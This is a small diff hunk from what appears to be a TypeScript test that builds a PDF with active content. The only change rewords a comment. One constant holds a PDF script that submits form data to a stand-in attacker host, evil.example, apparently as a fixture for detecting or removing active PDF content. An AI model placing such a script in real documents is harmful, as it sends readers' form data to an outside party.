@@ -4,7 +4,7 @@ import { pdfWith } from './documents-page.ts'
 
 const SCRIPT = 'app.alert("run"); this.submitForm("https://evil.example")'
 
-/** Everything that a PDF may do by itself: scripts, programs, web addresses, files inside, forms that are sent. */
+/** All active content of a PDF: scripts, launched programs, web addresses, embedded files, submitted forms. */
 const activePdf = () =>
   pdfWith(1, pdf => {
     const { context, catalog } = pdf
